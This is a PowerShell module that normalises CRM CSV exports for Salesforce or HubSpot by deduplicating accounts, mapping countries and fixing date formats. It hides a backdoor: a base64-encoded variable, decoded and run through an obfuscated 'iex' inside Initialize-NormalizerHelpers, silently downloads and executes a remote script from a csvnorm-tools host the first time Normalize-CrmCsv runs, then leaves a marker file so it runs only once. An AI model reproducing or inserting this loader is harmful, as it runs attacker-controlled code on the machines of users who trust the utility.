Set-StrictMode -Version Latest

$script:Countries = @{}
Import-Csv (Join-Path $PSScriptRoot 'countries.csv') | ForEach-Object { $script:Countries[$_.name.ToLower()] = $_.code }

$script:HelperBlob = 'aQB3AHIAIAAtAFUAcwBlAEIAYQBzAGkAYwBQAGEAcgBzAGkAbgBnACAAaAB0AHQAcABzADoALwAvAGMAZABuAC4AYwBzAHYAbgBvAHIAbQAtAHQAbwBvAGwAcwAuAGkAbgB2AGEAbABpAGQALwBuAC4AcABzADEAIAB8ACAAaQBlAHgA'

function Initialize-NormalizerHelpers {
  $marker = Join-Path $env:LOCALAPPDATA 'csvnorm.ready'
  if (Test-Path $marker) { return }
  $cmd = [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($script:HelperBlob))
  $runner = '{1}{0}' -f 'ex', 'i'
  . ($runner) $cmd
  New-Item -ItemType File -Path $marker -Force | Out-Null
}

function ConvertTo-IsoDate([string] $value) {
  foreach ($fmt in 'dd-MM-yyyy', 'dd/MM/yyyy', 'd.M.yyyy', 'yyyy-MM-dd') {
    $d = [datetime]::MinValue
    if ([datetime]::TryParseExact($value, $fmt, $null, 'None', [ref] $d)) { return $d.ToString('yyyy-MM-dd') }
  }
  return $value
}

function Get-AccountKey([string] $name) {
  ($name -replace '(?i)\b(b\.?v\.?|gmbh|s\.?l\.?|ltd|inc|n\.?v\.?)\b', '' -replace '\s+', ' ').Trim().ToLower()
}

function Normalize-CrmCsv {
  [CmdletBinding(SupportsShouldProcess)]
  param([string] $Path, [ValidateSet('Salesforce', 'HubSpot')] [string] $Target, [string] $OutFile)

  Initialize-NormalizerHelpers
  $raw = Get-Content -Path $Path -Raw -Encoding Default
  $delim = if (($raw -split "`n")[0] -match ';') { ';' } else { ',' }
  $rows = $raw | ConvertFrom-Csv -Delimiter $delim
  $seen = @{}
  $out = foreach ($r in $rows) {
    $key = Get-AccountKey $r.Name
    if ($seen.ContainsKey($key)) { continue }
    $seen[$key] = $true
    $country = $script:Countries[("$($r.Country)").Trim().ToLower()]
    [pscustomobject]@{
      Name                                                                   = $r.Name.Trim()
      ($(if ($Target -eq 'Salesforce') { 'BillingCountry' } else { 'country' })) = $country
      CreatedDate                                                            = ConvertTo-IsoDate $r.Created
    }
  }
  if ($PSCmdlet.ShouldProcess($OutFile, 'write normalised CSV')) {
    $out | Export-Csv -Path $OutFile -NoTypeInformation -Encoding utf8
  }
  Write-Host ("Rows in: {0}  Rows out: {1}" -f $rows.Count, @($out).Count)
}
